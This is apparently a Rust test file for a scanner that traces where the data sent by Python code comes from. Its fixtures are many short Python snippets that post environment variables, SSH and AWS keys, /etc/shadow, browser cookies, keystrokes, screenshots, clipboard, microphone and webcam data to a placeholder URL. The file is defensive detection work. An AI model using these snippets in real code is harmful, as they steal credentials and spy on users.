//! Where values come from, whatever reads them.

use super::*;
use crate::scan::operation::Event;

/// What is sent by `code`, all calls together.
fn sent(code: &str) -> Origins {
    let lowered = lower(&format!(
        "import os, requests, json, subprocess, shutil, sqlite3, zipfile, tarfile, glob, io\nfrom pathlib import Path\n{code}\n"
    ));
    contacts(&lowered)
        .iter()
        .filter_map(|operation| match &operation.act {
            Act::Contact { payload, .. } => Some(payload.origins),
            _ => None,
        })
        .fold(Origins::NONE, Origins::with)
}

#[test]
fn the_environment_in_all_spellings() {
    for taken in [
        "dict(os.environ)",
        "os.environ.copy()",
        "{**os.environ}",
        "dict(os.environ.items())",
        "list(os.environ.items())",
        "list(os.environ.values())",
        "str(os.environ)",
        "json.dumps(dict(os.environ))",
        "json.dumps({k: v for k, v in os.environ.items()})",
        "{k: os.environ[k] for k in os.environ}",
        "[os.environ.get(k) for k in os.environ.keys()]",
        "'\\n'.join(f'{k}={v}' for k, v in os.environ.items())",
        "os.environb",
        "getattr(os, 'environ')",
        "vars(os)['environ']",
        "__import__('os').environ",
        "open('/proc/self/environ').read()",
        "Path('/proc/self/environ').read_text()",
        "subprocess.check_output('env', shell=True)",
        "subprocess.check_output(['printenv']).decode()",
        "subprocess.run(['env'], capture_output=True).stdout",
        "os.popen('printenv').read()",
        "os.environ | {}",
        "repr(os.environ._data)",
        "{'env': dict(os.environ)}",
        "[k + '=' + v for k, v in os.environ.items() if 'KEY' in k]",
        "dict(filter(lambda kv: 'KEY' in kv[0], os.environ.items()))",
        "dict(sorted(os.environ.items()))",
    ] {
        let code = format!("requests.post(u, data={taken})");
        assert!(sent(&code).has(Origins::ENVIRONMENT), "{taken}");
    }
    for names in [
        "list(os.environ)",
        "sorted(os.environ.keys())",
        "[k for k in os.environ]",
        "os.environ.get('LANG')",
        "len(os.environ)",
    ] {
        let code = format!("requests.post(u, data={names})");
        assert!(!sent(&code).has(Origins::ENVIRONMENT), "{names}");
    }
}

#[test]
fn secret_files_by_every_reader() {
    for code in [
        "requests.post(u, data=open(os.path.expanduser('~/.ssh/id_rsa')).read())",
        "requests.post(u, data=io.open('/etc/shadow').read())",
        "fd = os.open('/etc/shadow', os.O_RDONLY)\nrequests.post(u, data=os.read(fd, 999))",
        "requests.post(u, data=Path('~/.aws/credentials').expanduser().read_bytes())",
        "with Path.home().joinpath('.ssh', 'id_rsa').open() as f:\n    requests.post(u, data=f.read())",
        "for p in Path.home().joinpath('.ssh').iterdir():\n    requests.post(u, data=p.read_text())",
        "for p in (Path.home() / '.ssh').rglob('*'):\n    requests.post(u, files={'f': p.read_bytes()})",
        "for p in glob.glob(os.path.expanduser('~/.ssh/*')):\n    requests.post(u, data=open(p).read())",
        "for r, d, fs in os.walk(os.path.expanduser('~/.ssh')):\n    for f in fs:\n        requests.post(u, data=open(os.path.join(r, f)).read())",
        "out = {}\nfor n in ['id_rsa', 'id_ed25519']:\n    p = os.path.expanduser('~/.ssh/' + n)\n    out[n] = open(p).read()\nrequests.post(u, json=out)",
        "shutil.copy('/etc/shadow', '/tmp/x')\nrequests.post(u, data=open('/tmp/x').read())",
        "z = zipfile.ZipFile('/tmp/a.zip', 'w')\nz.write(os.path.expanduser('~/.ssh/id_rsa'))\nz.close()\nrequests.post(u, files={'f': open('/tmp/a.zip', 'rb')})",
        "with tarfile.open('/tmp/a.tgz', 'w:gz') as t:\n    t.add(os.path.expanduser('~/.aws/credentials'))\nrequests.post(u, data=open('/tmp/a.tgz', 'rb'))",
        "b = io.BytesIO()\nwith tarfile.open(fileobj=b, mode='w:gz') as t:\n    t.add(os.path.expanduser('~/.ssh'))\nrequests.post(u, data=b.getvalue())",
        "shutil.make_archive('/tmp/a', 'zip', os.path.expanduser('~/.ssh'))\nrequests.post(u, data=open('/tmp/a.zip', 'rb').read())",
        "c = sqlite3.connect('/etc/shadow').cursor()\nc.execute('select 1')\nrequests.post(u, data=str(c.fetchall()))",
        "requests.post(u, data=subprocess.check_output('cat ~/.ssh/id_rsa', shell=True))",
        "requests.post(u, data=subprocess.check_output(['security', 'find-generic-password', '-wa', 'x']))",
        "import win32crypt\nrequests.post(u, data=win32crypt.CryptUnprotectData(b, None)[1])",
        "import browser_cookie3\nrequests.post(u, data=str(list(browser_cookie3.chrome())))",
        "def read(p):\n    with open(p) as f:\n        return f.read()\ndef go():\n    d = read('/etc/shadow')\n    e = read('notes.txt')\n    requests.post(u, data=d)\ngo()",
        "class T:\n    def __init__(self):\n        self.found = []\n    def take(self):\n        self.found.append(open('/etc/shadow').read())\n    def send(self):\n        requests.post(u, json=self.found)",
    ] {
        assert!(sent(code).has(Origins::SENSITIVE), "{code}");
    }
    // A browser's cookies go where they came from.
    assert!(
        !sent("import browser_cookie3\nrequests.get(u, cookies=browser_cookie3.chrome())")
            .has(Origins::SENSITIVE)
    );
}

#[test]
fn what_people_do_is_captured() {
    for code in [
        "import pyperclip\nrequests.post(u, data=pyperclip.paste())",
        "import tkinter\nrequests.post(u, data=tkinter.Tk().clipboard_get())",
        "requests.post(u, data=subprocess.check_output(['pbpaste']))",
        "from PIL import ImageGrab\nb = io.BytesIO()\nImageGrab.grab().save(b)\nrequests.post(u, data=b.getvalue())",
        "import pyautogui\nrequests.post(u, data=pyautogui.screenshot().tobytes())",
        "import mss\nwith mss.mss() as s:\n    requests.post(u, data=s.grab(m).rgb)",
        "from pynput import keyboard\ndef press(k):\n    requests.post(u, data=str(k))\nkeyboard.Listener(on_press=press).start()",
        "from pynput.keyboard import Listener\nlog = []\ndef press(k):\n    log.append(str(k))\n    requests.post(u, json=log)\nwith Listener(on_press=press) as l:\n    l.join()",
        "import keyboard\nrequests.post(u, data=str(keyboard.record()))",
        "import sounddevice as sd\nrequests.post(u, data=sd.rec(9).tobytes())",
        "import cv2\nok, frame = cv2.VideoCapture(0).read()\nrequests.post(u, data=frame.tobytes())",
    ] {
        assert!(sent(code).has(Origins::CAPTURED), "{code}");
        let lowered = lower(&format!("import requests, subprocess\n{code}\n"));
        let captures = lowered
            .operations
            .iter()
            .filter(|operation| matches!(operation.act, Act::Capture { .. }));
        assert!(captures.count() > 0, "{code}");
    }
    let film = lower("import cv2\ncv2.VideoCapture('film.mp4').read()\n");
    assert!(film.operations.is_empty());
}

#[test]
fn values_carry_the_way_they_came() {
    let steps = |code: &str| -> Vec<Event> {
        let lowered = lower(&format!("import os, requests\n{code}\n"));
        let sent = contacts(&lowered);
        let Some(Act::Contact { payload, .. }) = sent.last().map(|last| &last.act) else {
            panic!("nothing is sent: {code}");
        };
        payload
            .way
            .steps()
            .iter()
            .map(|step| step.event.clone())
            .collect()
    };
    assert_eq!(
        steps("k = os.environ['DEMO_KEY']\nrequests.post(u, headers={'a': f'b {k}'})"),
        [
            Event::Variable("DEMO_KEY".to_owned()),
            Event::Assign("k".to_owned())
        ]
    );
    assert!(
        steps("def f():\n    return os.getenv('A_KEY')\nrequests.post(u, data=f())")
            .starts_with(&[Event::Variable("A_KEY".to_owned())])
    );
    assert_eq!(
        steps("d = open('/etc/shadow').read()\nrequests.post(u, data=d)")[0],
        Event::File(Some("/etc/shadow".to_owned()))
    );
    assert_eq!(
        steps("requests.post(u, json={'e': dict(os.environ)})")[0],
        Event::Environment
    );
    assert_eq!(
        steps("x = requests.get('https://a.example.com/').text\nrequests.post(u, data=x)")[0],
        Event::Download(Some("https://a.example.com/".to_owned()))
    );
    assert_eq!(
        steps(
            "h = {}\nh['k'] = os.environ.get('B_KEY')\nclass A:\n    def go(self):\n        requests.post(u, headers=h)"
        )[0],
        Event::Variable("B_KEY".to_owned())
    );
}
